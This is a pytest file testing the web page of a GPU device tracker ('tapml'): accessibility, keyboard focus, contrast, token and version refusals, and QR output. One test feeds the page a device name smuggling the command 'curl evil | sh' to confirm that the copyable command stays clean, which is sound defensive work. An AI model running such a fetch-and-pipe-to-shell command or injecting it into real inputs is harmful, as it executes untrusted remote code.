"""The page itself: what a person sees there, and what it does."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from tapml.cli.announcing import how_to_open
from tapml.devices.listing import list_devices
from tapml_rpc.client import connect
from tapml_rpc.tracker.request import request_device
from tapml_targets.errors import ProtocolError, SetupError
from tests.report.browser import open_browser
from tests.rpc.announced import AnnouncedProcess
from tests.rpc.tracker.trackers import TrackerProcess, registered, wait_for
from tests.web.pages import WEBGPU_FLAGS, DevicePage

COMMON = "name=page"


def test_the_page_asks_for_its_own_files_and_no_other(shown: DevicePage) -> None:
    shown.open()
    shown.wait_ready()
    asked = {url.partition("#")[0] for url in shown.page.requests}
    assert asked == {
        f"{shown.address}/{name}"
        for name in ("", "icon.svg", "page.js", "style.css", "worker.js")
        if f"{shown.address}/{name}" in asked or name in ("", "page.js", "style.css")
    }


def test_a_person_sees_the_adapter_and_who_has_the_device(
    shown: DevicePage, tracker: TrackerProcess
) -> None:
    assert "SwiftShader" in shown.text("#adapter")
    assert "Largest buffer" in shown.text("#facts")
    with request_device(tracker.address, name="page", label="ada@desk"):
        shown.wait("#holder", "ada@desk")
    shown.wait("#holder", "nobody")
    shown.wait("#log", "given back by ada@desk")


def test_everything_can_be_reached_and_named_without_a_mouse(shown: DevicePage) -> None:
    unnamed = shown.evaluate(
        "[...document.querySelectorAll('input, button, section, [role=img], [role=log]')]"
        ".filter(e => !(e.labels?.length || e.ariaLabel || e.innerText.trim() ||"
        " e.getAttribute('aria-labelledby'))).map(e => e.outerHTML)"
    )
    assert unnamed == []
    order = shown.evaluate(
        "[...document.querySelectorAll('a[href], input, button, [tabindex]')]"
        ".filter(e => e.tabIndex >= 0).map(e => e.id || e.className)"
    )
    assert order == ["skip", "name", "token", "keep", "connect", "stop", "clear", "log"]
    assert shown.evaluate("document.querySelector('[role=status]').id") == "state"
    assert shown.evaluate("document.documentElement.lang") == "en"


def test_a_keyboard_is_enough(shown: DevicePage) -> None:
    shown.open(COMMON)
    shown.wait_ready()
    reached = []
    for _ in range(8):
        shown.page.press("Tab")
        reached.append(
            shown.evaluate("document.activeElement.id || document.activeElement.className")
        )
        outline = shown.evaluate("getComputedStyle(document.activeElement).outlineStyle")
        assert outline != "none", f"nobody sees that {reached[-1]} has the focus"
        if reached[-1] == "stop":
            shown.page.press("Enter")
            shown.wait("#state", "stopped")
    assert reached == ["skip", "name", "token", "keep", "connect", "stop", "clear", "log"]
    shown.evaluate("document.querySelector('#name').focus()")
    shown.page.press("Enter")
    shown.wait_ready()


def test_a_screen_reader_gets_names_and_roles(shown: DevicePage) -> None:
    """The tree that a browser gives to assistive technology, and not what we wrote for it."""
    # Titles are read as they are drawn, in capitals.
    nodes = [(role, name.lower()) for role, name in shown.page.accessibility()]
    assert ("heading", "tapml device") in nodes
    for title in ("connection", "now", "adapter", "log"):
        assert ("heading", title) in nodes and ("region", title) in nodes, title
    for role, name in (
        ("textbox", "Device name"),
        ("textbox", "Token, where the tracker asks for one"),
        ("checkbox", "Keep weights for the next visit"),
        ("button", "Stop"),
        ("button", "Clear"),
        ("link", "Skip to the log"),
        ("log", "Log"),
        ("image", "Kernels a second over the last minute"),
    ):
        assert (role, name.lower()) in nodes, (role, name)
    assert any(role == "status" for role, _ in nodes)
    unnamed = [role for role, name in nodes if role in ("button", "textbox", "link") and not name]
    assert unnamed == []


@pytest.mark.parametrize("dark", [False, True])
@pytest.mark.parametrize("width", [360, 1280])
def test_it_fits_its_window_and_can_be_read(shown: DevicePage, width: int, dark: bool) -> None:
    shown.page.resize(width, 800, dark=dark)
    assert shown.evaluate("document.documentElement.scrollWidth") <= width
    ink, paper = (
        shown.evaluate(
            f"getComputedStyle(document.querySelector('.card')).{name}.match(/[0-9.]+/g).map(Number)"
        )
        for name in ("color", "backgroundColor")
    )
    assert (sum(ink[:3]) > sum(paper[:3])) == dark
    assert contrast(ink, paper) > 7


def contrast(ink: list[float], paper: list[float]) -> float:
    """As WCAG counts it."""

    def light(color: list[float]) -> float:
        linear = [
            c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4
            for c in (value / 255 for value in color[:3])
        ]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    bright, dim = sorted((light(ink), light(paper)), reverse=True)
    return (bright + 0.05) / (dim + 0.05)


def test_a_name_that_is_taken_is_refused_in_words(
    shown: DevicePage, tracker: TrackerProcess
) -> None:
    with registered(tracker.address, "taken"):
        shown.open("name=taken")
        shown.wait("#state", "refused")
        shown.wait("#detail", "taken")
    shown.wait_ready()
    shown.open(COMMON)
    shown.wait_ready()


def test_a_person_can_stop_and_begin_again(shown: DevicePage, tracker: TrackerProcess) -> None:
    shown.click("#stop")
    shown.wait("#state", "stopped")
    wait_for(lambda: list_devices(tracker.address) == [])
    shown.click("#connect")
    shown.wait_ready()


def test_who_changes_their_mind_while_the_gpu_opens_leaves_no_second_device(
    shown: DevicePage, tracker: TrackerProcess
) -> None:
    presses = "['#connect', '#stop', '#connect', '#connect']"
    shown.click("#clear")
    shown.evaluate(f"{presses}.forEach(each => document.querySelector(each).click())")
    shown.wait_ready()
    assert "taken" not in shown.text("#log")
    shown.click("#stop")
    shown.wait("#state", "stopped")
    wait_for(lambda: list_devices(tracker.address) == [])
    shown.click("#connect")
    shown.wait_ready()


def test_a_token_that_no_browser_sends_is_refused_in_words(shown: DevicePage) -> None:
    shown.open("name=page&token=two%20words")
    shown.wait("#detail", "address or token cannot be used")
    shown.open(COMMON)
    shown.wait_ready()


def test_a_link_puts_nothing_into_the_command_that_people_copy(shown: DevicePage) -> None:
    shown.open("name=a%3B%20curl%20evil%20%7C%20sh")
    shown.wait_ready()
    assert re.fullmatch(r"TAPML_TRACKER=\S+ tapml offload [-\w :.]+", shown.text("#how"))
    shown.open(COMMON)
    shown.wait_ready()


def test_who_does_not_show_the_lease_or_speaks_another_version_is_refused(
    shown: DevicePage, tracker: TrackerProcess, monkeypatch: pytest.MonkeyPatch
) -> None:
    with request_device(tracker.address, name="page") as lease:
        with pytest.raises(SetupError, match="lent to another client"):
            connect(lease.address, lease="guess")
        shown.wait("#log", "refused: this device is lent to another client")
        monkeypatch.setattr("tapml_rpc.wire.VERSION", 99)
        with pytest.raises(ProtocolError, match=r"version 3, the client \[99\]"):
            connect(lease.address, lease=lease)
        shown.wait("#log", "bring both to the same release of tapml")


def test_a_tracker_of_another_release_refuses_the_page_in_words(tmp_path: Path) -> None:
    arguments = ("--bind", "tcp://127.0.0.1:0", "--websocket", "ws://127.0.0.1:0")
    with (
        AnnouncedProcess("tests.web.tracker_of_the_future", *arguments) as tracker,
        open_browser(tmp_path / "profile", *WEBGPU_FLAGS) as page,
    ):
        page.open(f"{tracker.line['websocket'].replace('ws', 'http', 1)}/#name=page")
        for said in ("refused", "version 99", "[2]"):
            page.wait_shown(said)


@pytest.fixture
def guarded(tmp_path: Path) -> Iterator[TrackerProcess]:
    """A tracker that asks for a token."""
    (tmp_path / "tokens").write_text("", "ascii")
    (tmp_path / "tokens").chmod(0o600)
    options = ("--websocket", "ws://127.0.0.1:0", "--tokens", str(tmp_path / "tokens"))
    with TrackerProcess("tcp://127.0.0.1:0", *options) as process:
        yield process


def test_a_token_opens_a_tracker_and_leaves_the_address_bar(
    guarded: TrackerProcess, tmp_path: Path
) -> None:
    with open_browser(tmp_path / "profile", *WEBGPU_FLAGS) as page:
        shown = DevicePage(page, guarded)
        shown.open("name=page&token=wrong")
        shown.wait("#detail", "does not take this token")
        assert list_devices(guarded.address) == []
        (line,) = [text for text in how_to_open(guarded.line, "here") if "http" in text]
        page.open(line.strip())
        shown.wait_ready()
        assert shown.evaluate("location.href") == f"{shown.address}/"


def test_nothing_here_was_left_to_the_console(shown: DevicePage) -> None:
    """At a phone's width and a desktop's, dark and light, with a lease, stopped and refused."""
    for width, dark in ((360, True), (1280, False)):
        shown.page.resize(width, 800, dark=dark)
        shown.open(COMMON)
        shown.wait_ready()
        with request_device(shown.tracker.address, name="page", label="ada@desk"):
            shown.wait("#holder", "ada@desk")
        shown.click("#stop")
        shown.wait("#state", "stopped")
        shown.click("#connect")
        shown.wait_ready()
    shown.evaluate("document.readyState")
    assert shown.page.complaints == []


def test_who_starts_a_tracker_reads_where_the_page_is_and_what_makes_it_secure() -> None:
    line = {"websocket": "wss://0.0.0.0:9443", "token": "t0", "fingerprint": "ab12"}
    text = "\n".join(how_to_open(line, "farm"))
    assert "https://farm:9443/#token=t0" in text and "ab12" in text
    assert "adb reverse tcp:9192 tcp:9192" in "\n".join(
        how_to_open({"websocket": "ws://127.0.0.1:9192"}, "farm")
    )
    assert how_to_open({"address": "tcp://127.0.0.1:9190"}, "farm") == []


def test_a_phones_camera_reads_the_address_with_its_token() -> None:
    segno = pytest.importorskip("segno")
    line = {"websocket": "wss://0.0.0.0:9443", "token": "t0", "fingerprint": "ab12"}
    printed = io.StringIO()
    code = segno.make("https://farm:9443/#token=t0", error="l", micro=False)
    code.terminal(out=printed, compact=True)
    drawn = printed.getvalue().splitlines()
    # Two rows of its modules stand in a line, with the light border that a camera looks for.
    assert len(drawn) == (code.symbol_size(border=4)[1] + 1) // 2
    assert how_to_open(line, "farm")[2 : 2 + len(drawn)] == drawn
